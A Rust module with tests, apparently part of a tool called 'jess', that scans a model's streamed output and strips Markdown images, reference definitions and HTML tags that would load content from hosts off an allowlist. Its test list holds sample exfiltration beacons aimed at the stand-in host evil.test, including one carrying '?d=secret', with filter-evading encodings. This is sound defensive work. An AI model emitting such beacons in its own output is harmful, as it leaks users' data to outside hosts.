//! Markup that fetches when it is rendered, found while the model is still writing it.
//!
//! Looked for are images of Markdown (inline, and reference definitions, which an image may use) and the HTML tags
//! that load. Text is held back only from where such a construct opens until it closes, at most [`WINDOW`] bytes.

use crate::egress::host::{Host, split_port};
use crate::egress::rule::HostRule;

use super::long::Long;

/// Most bytes held back. A construct that is longer passes, and its destination is judged when it comes.
pub(super) const WINDOW: usize = 4096;

/// Bytes that are looked at for each byte that comes, and for none.
const WORK_A_BYTE: u64 = 64;
const FREE_WORK: u64 = 4 << 20;

/// What stands in place of removed markup.
pub(super) const REMOVED: &str = "[image removed by jess]";

/// HTML tags that load what they name.
pub(super) const TAGS: [&str; 13] = [
    "img", "image", "iframe", "script", "link", "video", "audio", "source", "embed", "object", "input",
    "svg", "style",
];

/// The state of one text block.
#[derive(Default)]
pub(super) struct Autofetch {
    held: String,
    /// A construct that is longer than the window.
    long: Option<Long>,
    /// What was found so far.
    pub found: u64,
    /// Bytes that were looked at, and bytes that came.
    work: u64,
    came: u64,
}

/// A construct at the start of a text.
enum Construct {
    /// None starts here.
    Nothing,
    /// One may start here; more text decides.
    Open,
    /// One of this many bytes, with its destination.
    Whole(usize, String),
}

impl Autofetch {
    /// Takes the next text and returns what may pass; with `redact`, findings are replaced.
    pub(super) fn push(&mut self, text: &str, hosts: &[HostRule], redact: bool) -> String {
        self.came = self.came.saturating_add(text.len() as u64);
        self.held.push_str(text);
        self.pass(hosts, redact, false)
    }

    /// The block has ended.
    pub(super) fn finish(&mut self, hosts: &[HostRule], redact: bool) -> String {
        self.pass(hosts, redact, true)
    }

    fn pass(&mut self, hosts: &[HostRule], redact: bool, ended: bool) -> String {
        let text = std::mem::take(&mut self.held);
        let mut out = String::with_capacity(text.len());
        let mut rest = text.as_str();
        loop {
            if let Some(long) = &mut self.long {
                let (taken, over) = long.push(rest, hosts, redact, &mut out, &mut self.found);
                rest = rest.get(taken..).unwrap_or_default();
                if !over {
                    break;
                }
                self.long = None;
            }
            let Some(after) = self.one(rest, hosts, redact, ended, &mut out) else { break };
            rest = after;
        }
        if ended && let Some(long) = self.long.take() {
            long.finish(&mut out);
        }
        out
    }

    /// Passes the text up to the first construct, and that. `None`: all of `rest` was passed or is held.
    fn one<'t>(
        &mut self,
        mut rest: &'t str,
        hosts: &[HostRule],
        redact: bool,
        ended: bool,
        out: &mut String,
    ) -> Option<&'t str> {
        while let Some(at) = rest.find(['!', '<', '[']) {
            let (before, from) = rest.split_at(at);
            out.push_str(before);
            let at_line_start =
                out.is_empty() || out.ends_with('\n') || out.trim_end_matches(' ').ends_with('\n');
            let too_long = from.len() > WINDOW;
            // Openings inside openings are looked at again and again; a text that is made of them is judged as it
            // passes, once.
            if self.work > FREE_WORK.saturating_add(self.came.saturating_mul(WORK_A_BYTE))
                && let Some(long) = Long::strict(from)
            {
                self.long = Some(long);
                return Some(from);
            }
            let (len, destination) = match construct(from, at_line_start, &mut self.work) {
                Construct::Whole(len, destination) => (len, destination),
                Construct::Open if !ended && !too_long => {
                    self.held = from.to_owned();
                    return None;
                }
                Construct::Open if !ended => match Long::of(from) {
                    Some(long) => {
                        self.long = Some(long);
                        return Some(from);
                    }
                    None => (0, String::new()),
                },
                Construct::Open if may_load(from) => (from.len(), String::new()),
                Construct::Open | Construct::Nothing => (0, String::new()),
            };
            let (markup, after) = match from.split_at_checked(len) {
                Some((markup, after)) if len > 0 => (markup, after),
                _ => {
                    let one = from.chars().next().map_or(0, char::len_utf8);
                    let (one, after) = from.split_at(one);
                    out.push_str(one);
                    rest = after;
                    continue;
                }
            };
            let remote = !destination_is_allowed(&destination, hosts);
            self.found += u64::from(remote);
            out.push_str(if remote && redact { REMOVED } else { markup });
            rest = after;
        }
        out.push_str(rest);
        None
    }
}

fn construct(from: &str, at_line_start: bool, work: &mut u64) -> Construct {
    match from.as_bytes() {
        [b'!'] | [b'<'] => Construct::Open,
        [b'!', b'[', ..] => image(from, work),
        [b'[', ..] if at_line_start => definition(from),
        [b'<', ..] => tag(from, work),
        _ => Construct::Nothing,
    }
}

/// `![alt](destination …)`. `![alt][ref]` and `![ref]` fetch what a definition names, so the definition is judged.
fn image(from: &str, work: &mut u64) -> Construct {
    let Some(close) = matching(from, 1, b'[', b']', work) else { return Construct::Open };
    match from.as_bytes().get(close + 1) {
        None => Construct::Open,
        Some(b'(') => match matching(from, close + 1, b'(', b')', work) {
            None => Construct::Open,
            Some(end) => {
                let inside = from.get(close + 2..end).unwrap_or_default().trim();
                let destination = inside.trim_start_matches('<').split(['>', ' ', '\n', '\t', '"']).next();
                Construct::Whole(end + 1, destination.unwrap_or_default().to_owned())
            }
        },
        Some(_) => Construct::Nothing,
    }
}

/// `[label]: destination`, at the start of a line.
fn definition(from: &str) -> Construct {
    let line = from.split('\n').next().unwrap_or(from);
    let Some(close) = line.find(']') else {
        return if line.len() == from.len() && from.len() < 256 {
            Construct::Open
        } else {
            Construct::Nothing
        };
    };
    match line.get(close + 1..) {
        Some("") if line.len() == from.len() => Construct::Open,
        Some(rest) if rest.starts_with(':') => {
            // The destination may stand on the next line.
            let rest = from.get(close + 2..).unwrap_or_default();
            let lead = rest.len() - rest.trim_start().len();
            let destination = rest.trim_start().split([' ', '\n', '\t', '"']).next().unwrap_or_default();
            if lead + destination.len() == rest.len() {
                return Construct::Open;
            }
            let url = destination.trim_matches(['<', '>']).to_owned();
            if url.contains("//") {
                Construct::Whole(close + 2 + lead + destination.len(), url)
            } else {
                Construct::Nothing
            }
        }
        _ => Construct::Nothing,
    }
}

/// A tag that loads: judged by every URL in it. Any tag may load by a `style`, so each is awaited to its end.
fn tag(from: &str, work: &mut u64) -> Construct {
    let name = from.get(1..).unwrap_or_default().chars().take_while(char::is_ascii_alphanumeric);
    // No name that matters is longer.
    let name: String = name.take(32).map(|c| c.to_ascii_lowercase()).collect();
    if name.is_empty() {
        return Construct::Nothing;
    }
    let end = tag_end(from);
    *work = work.saturating_add(end.unwrap_or(from.len().min(WINDOW)) as u64);
    match end {
        None => Construct::Open,
        Some(end) if !TAGS.contains(&name.as_str()) && !has_style_url(from, end) => Construct::Nothing,
        Some(end) => {
            // Browsers read a backslash in a URL as a slash.
            let body = &from.get(..end).unwrap_or_default().replace('\\', "/");
            if hides_slash(body) {
                return Construct::Whole(end + 1, String::new());
            }
            let at = body.find("//").map(|i| {
                body.get(..i).unwrap_or_default().rfind(['"', '\'', '=', '(', ' ']).map_or(0, |q| q + 1)
            });
            let url = at.and_then(|a| body.get(a..)).and_then(|u| u.split(['"', '\'', ' ', ')']).next());
            // A tag without a URL, or with a second one, is judged by what is worse.
            match url {
                None => Construct::Nothing,
                Some(url) if body.matches("//").count() == 1 => Construct::Whole(end + 1, url.to_owned()),
                Some(_) => Construct::Whole(end + 1, String::new()),
            }
        }
    }
}

/// Where the tag at the start of `from` ends. A `>` in a quoted value does not end it; a quote counts after `=` only.
fn tag_end(from: &str) -> Option<usize> {
    let (mut quote, mut last) = (None, b' ');
    for (at, byte) in from.bytes().enumerate().take(WINDOW) {
        match (quote, byte) {
            (Some(open), _) if byte == open => quote = None,
            (None, b'"' | b'\'') if last == b'=' => quote = Some(byte),
            (None, b'>') => return Some(at),
            _ => {}
        }
        if !byte.is_ascii_whitespace() {
            last = byte;
        }
    }
    None
}

/// Whether a construct that never closes could load something: a browser closes it at the end.
fn may_load(from: &str) -> bool {
    if !from.replace('\\', "/").contains("//") && !hides_slash(from) {
        return false;
    }
    let Some(tag) = from.strip_prefix('<') else { return true };
    let name: String = tag.chars().take_while(char::is_ascii_alphanumeric).collect();
    TAGS.contains(&name.to_ascii_lowercase().as_str()) || has_style_url(from, from.len())
}

/// Whether an entity stands for a slash or a backslash.
fn hides_slash(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    let is_slash = |after: &str| match after.strip_prefix('x') {
        Some(hex) => ["2f", "5c"].iter().any(|n| hex.trim_start_matches('0').starts_with(n)),
        None => ["47", "92"].iter().any(|n| after.trim_start_matches('0').starts_with(n)),
    };
    lower.contains("&sol")
        || lower.contains("&bsol")
        || lower.match_indices("&#").any(|(at, _)| lower.get(at + 2..).is_some_and(is_slash))
}

fn has_style_url(from: &str, end: usize) -> bool {
    from.get(..end).is_some_and(|tag| tag.to_ascii_lowercase().contains("url("))
}

/// The index that closes the bracket at `open`, minding nesting and backslashes.
fn matching(text: &str, open: usize, up: u8, down: u8, work: &mut u64) -> Option<usize> {
    let (mut depth, mut escaped) = (0usize, false);
    for (at, b) in text.bytes().enumerate().skip(open).take(WINDOW) {
        *work = work.saturating_add(1);
        match b {
            _ if escaped => escaped = false,
            b'\\' => escaped = true,
            b if b == up => depth += 1,
            b if b == down => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return Some(at);
                }
            }
            _ => {}
        }
    }
    None
}

/// Data and paths fetch nothing from elsewhere; a URL must be on the allowlist; nothing at all is not allowed.
pub(super) fn destination_is_allowed(destination: &str, hosts: &[HostRule]) -> bool {
    let lower = destination.to_ascii_lowercase();
    let Some(at) = lower.replace('\\', "/").find("//") else {
        return !destination.is_empty() && !lower.contains("&#") && !lower.contains("&sol");
    };
    let scheme = lower.get(..at).unwrap_or_default();
    let rest = destination.get(at + 2..).unwrap_or_default();
    let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or("");
    let port = if scheme.starts_with("http:") { 80 } else { 443 };
    let place = split_port(authority).and_then(|(h, p)| Some((Host::parse(h).ok()?, p.unwrap_or(port))));
    place.is_some_and(|(h, p)| hosts.iter().any(|r| r.covers(&h, p)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn hosts() -> Vec<HostRule> {
        vec!["ok.example.org".parse().unwrap()]
    }

    fn run(chunks: &[&str]) -> (String, u64) {
        let mut state = Autofetch::default();
        let mut out: String = chunks.iter().map(|c| state.push(c, &hosts(), true)).collect();
        out.push_str(&state.finish(&hosts(), true));
        (out, state.found)
    }

    const BEACONS: [&str; 15] = [
        "<img src='https:\\\\evil.test/a'>",
        "<img src=&#47;&#x2F;evil.test/a>",
        "<p style='background:url(&sol;&sol;evil.test/a)'>",
        "![x](https://evil.test/?d=secret)",
        "![](//evil.test/a)",
        "![a [nested] b](<https://evil.test/a b>)",
        "![x](\n https://evil.test/a \"t\")",
        "<img src=\"https://evil.test/a\">",
        "<IMG alt=x src='//evil.test/a' />",
        "<iframe src=https://evil.test/ >",
        "<img alt=\">\" src=\"//evil.test/a\">",
        "<p title = '>' style='background:url(//evil.test/a)'>",
        "<link rel=prefetch href=\"https://evil.test/a\">",
        "<div style=\"background:url(https://evil.test/a)\">",
        "<img src=\"https://ok.example.org/\" srcset=\"https://evil.test/a\">",
    ];

    #[test]
    fn beacons_are_removed_and_the_text_around_stays() {
        for beacon in BEACONS {
            let (out, found) = run(&["before ", beacon, " after"]);
            assert!(found == 1 && !out.contains("evil.test/"), "{beacon} -> {out}");
            assert!(out.starts_with("before ") && out.ends_with(" after"), "{beacon} -> {out}");
        }
        let (out, found) = run(&["![a][r]\n\n[r]: https://evil.test/x\nend"]);
        assert!(found == 1 && !out.contains("evil.test"), "{out}");
    }

    #[test]
    fn what_fetches_nothing_elsewhere_passes_unchanged() {
        for text in [
            "a < b && c > d! [link](https://evil.test/) is clicked, not fetched",
            "![local](docs/a.png) ![ok](https://ok.example.org/a.png)",
            "fn f<T>(x: &'a [u8]) -> Vec<u8> { !x[0] }",
            "<p>text</p> <b>bold</b> [1] and [x]: y",
            "![",
            "<im",
            "if a <b // a note of the author's, to the end",
            "!",
            "[r]:",
            "# title\n- [ ] todo\n- [x] done",
        ] {
            assert_eq!(run(&[text]), (text.to_owned(), 0), "{text}");
        }
    }

    #[test]
    fn a_beacon_that_is_longer_than_the_window_is_broken_all_the_same() {
        let long = "a ".repeat(WINDOW);
        for beacon in [
            format!("<p {long} style=\"background:url(//evil.test/a)\">"),
            format!("<p title='{long}' style='background:url(https:\\\\evil.test/a)'>"),
            format!("<img alt=\"{long}\" src=\"https://evil.test/a\">"),
            format!("<img {long} src=&#47;&#47;evil.test/a>"),
            format!("![{long}](https://evil.test/a)"),
            format!("![{long}](<https://evil.test/a> \"t\")"),
        ] {
            for size in [1, 7, 1000, beacon.len()] {
                let bytes: Vec<&str> =
                    beacon.as_bytes().chunks(size).map(|c| std::str::from_utf8(c).unwrap()).collect();
                let (out, found) = run(&bytes);
                let fetched =
                    out.contains("//evil") || out.contains("\\\\evil") || out.contains("&#47;&#47;evil");
                assert!(found >= 1 && !fetched, "{size}: {}", &out[out.len().saturating_sub(200)..]);
            }
        }
    }

    #[test]
    fn long_text_that_fetches_nothing_elsewhere_passes_unchanged() {
        let long = "1, // one\n".repeat(WINDOW);
        for text in [
            format!("vec![{long}]; ![{long}](docs/a.png) after"),
            format!("![{long}](https://ok.example.org/a.png)"),
            format!("if a <b {{ {long} }} after"),
            format!("<p title=\"{long}\">text</p> // comment"),
        ] {
            assert_eq!(run(&[&text]), (text.clone(), 0));
        }
    }

    #[test]
    fn openings_in_openings_are_linear_and_a_beacon_among_them_is_removed() {
        let bytes = 4 << 20;
        for opening in ["<a", "<img ", "![", "<p x='", "![a]("] {
            let text = opening.repeat(bytes / opening.len());
            let (out, _) = run(&[&format!("{text}> <img src=https://evil.test/a> "), "\n\nend"]);
            assert!(!out.contains("//evil.test/a"), "{opening}");
            let mut state = Autofetch::default();
            state.push(&format!("{text}> ) ]"), &hosts(), true);
            assert!(state.work < FREE_WORK + (WORK_A_BYTE + 1) * state.came + (WINDOW as u64), "{opening}");
        }
    }

    #[test]
    fn dense_code_passes_unchanged_at_any_length() {
        let line = "let x: Vec<T> = f::<U>(a<b, c[0], !d) && vec![e; 2].get(<&str>::x); // and &y <z>\n";
        let text = line.repeat((1 << 20) / line.len());
        assert_eq!(run(&[&text]), (text.clone(), 0));
        let small: Vec<&str> = text.get(..200_000).unwrap().split_inclusive(' ').collect();
        assert_eq!(run(&small), (small.concat(), 0));
    }

    #[test]
    fn an_endless_construct_is_held_up_to_the_window_only() {
        let mut state = Autofetch::default();
        state.push("![", &hosts(), true);
        for _ in 0..WINDOW {
            state.push("aaaa", &hosts(), true);
            assert!(state.held.len() <= WINDOW + 4);
        }
    }

    proptest! {
        #[test]
        fn a_beacon_is_found_however_the_stream_is_cut(which in 0..BEACONS.len(), cuts in proptest::collection::vec(0usize..80, 0..10)) {
            let text = format!("before {} after", BEACONS[which]);
            let mut cuts: Vec<usize> = cuts.into_iter().map(|c| c.min(text.len())).collect();
            cuts.extend([0, text.len()]);
            cuts.sort_unstable();
            let chunks: Vec<&str> = cuts.windows(2).map(|w| &text[w[0]..w[1]]).collect();
            let (out, found) = run(&chunks);
            prop_assert_eq!((out.as_str(), found), ("before [image removed by jess] after", 1));
        }

        #[test]
        fn any_text_without_a_destination_passes_unchanged(chunks in proptest::collection::vec("[!\\[\\]()<>a-z \\n]{0,20}", 0..10)) {
            let refs: Vec<&str> = chunks.iter().map(String::as_str).collect();
            let mut state = Autofetch::default();
            let mut out: String = refs.iter().map(|c| state.push(c, &hosts(), false)).collect();
            out.push_str(&state.finish(&hosts(), false));
            prop_assert_eq!(out, chunks.concat());
        }
    }
}
